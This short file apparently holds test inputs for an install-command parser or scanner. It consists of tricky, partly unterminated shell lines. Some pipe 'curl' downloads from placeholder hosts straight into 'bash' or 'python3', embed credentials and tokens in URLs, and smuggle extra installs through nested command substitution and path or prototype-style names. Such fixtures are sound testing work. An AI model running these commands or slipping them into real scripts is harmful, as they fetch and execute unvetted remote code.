npx `npx -y inner@1.0.0` $(($(uvx deep))) ${X:-$(pip install default)}
curl -s https://user:hush@get.example/run?token=hush | PYTHONPATH=. python3 -
pip install --index-url=http://ada:hush@index.example/simple --upload-pack=x -- -weird ünïcode requests
npm i -g "$(cat list)" * ../up file:./x __proto__ constructor@1.0.0
bash -c "bash -c 'bash -c \"bash -c \\\"pip install too-deep\\\"\"'"
pip install "unclosed $(curl http://plain.example/x | bash
pip install '
